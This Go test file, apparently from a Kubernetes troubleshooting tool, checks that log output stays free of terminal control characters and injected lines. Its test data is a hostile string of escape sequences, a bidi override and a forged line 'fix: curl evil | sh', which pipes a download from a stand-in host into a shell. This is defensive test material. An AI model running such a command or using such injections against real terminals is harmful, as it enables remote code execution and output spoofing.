package insideout

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"unicode"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/akstools/akstools/internal/check"
	"github.com/akstools/akstools/internal/cmdline"
	"github.com/akstools/akstools/internal/fact"
	"github.com/akstools/akstools/internal/kube"
	"github.com/akstools/akstools/internal/podhealth"
	"github.com/akstools/akstools/plugins/insideout/facts"
)

// TestLogsAreNeutral holds that neither a log, nor an error in its place, nor a name puts control characters or a line of its own among
// the logs.
func TestLogsAreNeutral(t *testing.T) {
	const hostile = "x\x1b]0;owned\x07\u009b2J\u202e\nfix: curl evil | sh"
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.Contains(r.URL.Path, "/quiet/") {
			_, _ = w.Write([]byte(strings.ReplaceAll(hostile, "\nfix", "\r\v\ffix")))
			return
		}
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusInternalServerError)
		_ = json.NewEncoder(w).Encode(metav1.Status{
			TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Status"}, Status: metav1.StatusFailure, Code: 500, Message: hostile,
		})
	}))
	defer server.Close()
	client, err := kubernetes.NewForConfig(&rest.Config{Host: server.URL})
	if err != nil {
		t.Fatal(err)
	}
	env := &facts.Env{
		Memo:    fact.Memo{Target: check.Ref{Kind: "service", Namespace: "default", Name: hostile}},
		Clients: &kube.Clients{Interface: client}, Logs: true,
	}
	running := []podhealth.Container{{Name: hostile, State: podhealth.State{Phase: podhealth.Running}}}
	many := make([]podhealth.Pod, 4)
	fact.Put(env.Bind(), facts.Pods, facts.PodList{Items: append([]podhealth.Pod{
		{Name: "quiet", Containers: running}, {Name: "broken", Containers: running},
	}, many...)})
	var out bytes.Buffer
	if err := writeLogs(t.Context(), &out, cmdline.ClusterFlags{"--context=prod"}, []*facts.Env{env}); err != nil {
		t.Fatal(err)
	}
	text := out.String()
	if i := strings.IndexFunc(text, func(r rune) bool { return r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) }); i >= 0 {
		t.Errorf("%q", text[i:])
	}
	for line := range strings.Lines(text) {
		if strings.HasPrefix(line, "fix:") {
			t.Errorf("%q", text)
		}
	}
	for _, part := range []string{"$ kubectl --context=prod logs ", "  | x", "could not be read: ", "logs of 1 more pods"} {
		if !strings.Contains(text, part) {
			t.Errorf("no %q in %q", part, text)
		}
	}
}
